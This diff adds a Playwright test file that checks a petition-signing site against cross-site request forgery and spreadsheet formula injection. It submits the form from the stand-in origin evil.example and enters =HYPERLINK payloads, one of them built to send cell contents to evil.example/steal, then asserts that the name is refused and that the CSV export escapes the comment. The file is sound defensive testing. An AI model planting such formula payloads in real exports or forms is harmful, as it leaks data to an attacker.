@@ -1,0 +1,61 @@
+import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
+import { DEMO_ORG, DEMO_OWNER, DEMO_SLUG, fromAddress, mailTo, signInAs, uniqueEmail, waitForMail } from "./fixtures";
+
+/** The signing form's fields as the browser would post them without JavaScript (action id included). */
+async function signingFormFields(page: Page, email: string): Promise<Record<string, string>> {
+  await page.goto(`/en/campaigns/${DEMO_SLUG}/sign`);
+  await page.getByLabel("Full name").fill("Forged Signer");
+  await page.getByLabel("Email address").fill(email);
+  await page.getByLabel("I am a Canadian citizen living abroad").check();
+  return page.locator("form").filter({ has: page.getByLabel("Full name") }).evaluate((form) => {
+    const out: Record<string, string> = {};
+    new FormData(form as HTMLFormElement).forEach((v, k) => (out[k] = String(v)));
+    return out;
+  });
+}
+
+async function postForm(request: APIRequestContext, fields: Record<string, string>, origin: string) {
+  return request.post(`/en/campaigns/${DEMO_SLUG}/sign`, { multipart: fields, headers: { origin, "x-forwarded-for": "198.18.90.1" }, maxRedirects: 0 });
+}
+
+test("a page on another site submits the signing form (CSRF): the action is refused and nobody is signed up", async ({ page, request, baseURL }) => {
+  const victim = uniqueEmail("csrf");
+  const forged = await postForm(request, await signingFormFields(page, victim), "https://evil.example");
+  expect(forged.status()).not.toBe(303);
+  expect(forged.headers()["location"] ?? "").not.toContain("check-email");
+  // The same post from the site itself works: the forged one failed only because of its origin.
+  const control = uniqueEmail("csrf-control");
+  const genuine = await postForm(request, await signingFormFields(page, control), baseURL!);
+  expect(genuine.status()).toBe(303);
+  expect(genuine.headers()["location"]).toContain("/check-email");
+  await waitForMail(request, control);
+  expect(await mailTo(request, victim)).toHaveLength(0);
+});
+
+test("a name that a spreadsheet would run as a formula is refused at signing, and a formula in a comment reaches the export as text", async ({ page, request }) => {
+  await fromAddress(page);
+  await page.goto(`/en/campaigns/${DEMO_SLUG}/sign`);
+  await page.getByLabel("Full name").fill('=HYPERLINK("https://evil.example","x")');
+  const email = uniqueEmail("formula");
+  await page.getByLabel("Email address").fill(email);
+  await page.getByLabel("I am a Canadian citizen living abroad").check();
+  const comment = '=HYPERLINK("https://evil.example/steal?"&A1,"Click")';
+  await page.getByLabel(/^Comment/).fill(comment);
+  await page.getByRole("button", { name: "Sign" }).click();
+  await expect(page.locator(".field-error", { hasText: "Your name cannot contain web addresses or start with = + - or @." })).toBeVisible();
+  // Nothing typed is lost.
+  await expect(page.getByLabel("Email address")).toHaveValue(email);
+  await expect(page.getByLabel(/^Comment/)).toHaveValue(comment);
+
+  await page.getByLabel("Full name").fill("Formula Tester");
+  await page.getByRole("button", { name: "Sign" }).click();
+  await expect(page.getByRole("heading", { name: "Check your email" })).toBeVisible();
+
+  await signInAs(page, request, DEMO_OWNER);
+  await page.getByRole("link", { name: /Canadian sensors, foreign wars/ }).click();
+  const campaignId = /campaigns\/([0-9a-f-]{36})/.exec(page.url())![1];
+  const csv = await (await page.request.get(`/api/org/${DEMO_ORG}/campaigns/${campaignId}/export?status=all`)).text();
+  const line = csv.split("\r\n").find((l) => l.includes(email))!;
+  expect(line).toContain(`"'=HYPERLINK(""https://evil.example/steal?""&A1,""Click"")"`);
+  expect(line).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
+});
